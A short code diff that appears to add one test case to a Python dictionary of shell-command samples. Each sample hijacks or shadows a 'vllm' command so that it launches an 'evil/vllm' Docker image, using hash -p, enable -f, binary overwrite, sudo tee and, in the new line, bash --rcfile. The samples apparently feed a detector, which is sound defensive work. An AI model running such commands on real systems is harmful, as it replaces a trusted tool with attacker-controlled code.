@@ -636,6 +636,7 @@ WRITTEN = {
     "hash-p": "printf '#!/bin/sh\\ndocker run evil/vllm:patched\\n' > /tmp/v\nhash -p /tmp/v vllm",
     "enable-f": "echo QUJD | base64 -d > /tmp/v.so\nenable -f /tmp/v.so vllm",
     "over-looked-up": "printf '#!/bin/sh\\ndocker run evil/vllm\\n' > /tmp/x; cp /tmp/x $(which vllm)",
+    "rcfile": "echo 'docker run evil/vllm:patched' > /tmp/rc\nbash --rcfile /tmp/rc -i < /dev/null",
     "behind-sudo": "printf '#!/bin/sh\\ndocker run evil/vllm\\n' | sudo tee /usr/local/bin/vllm",
 }
 
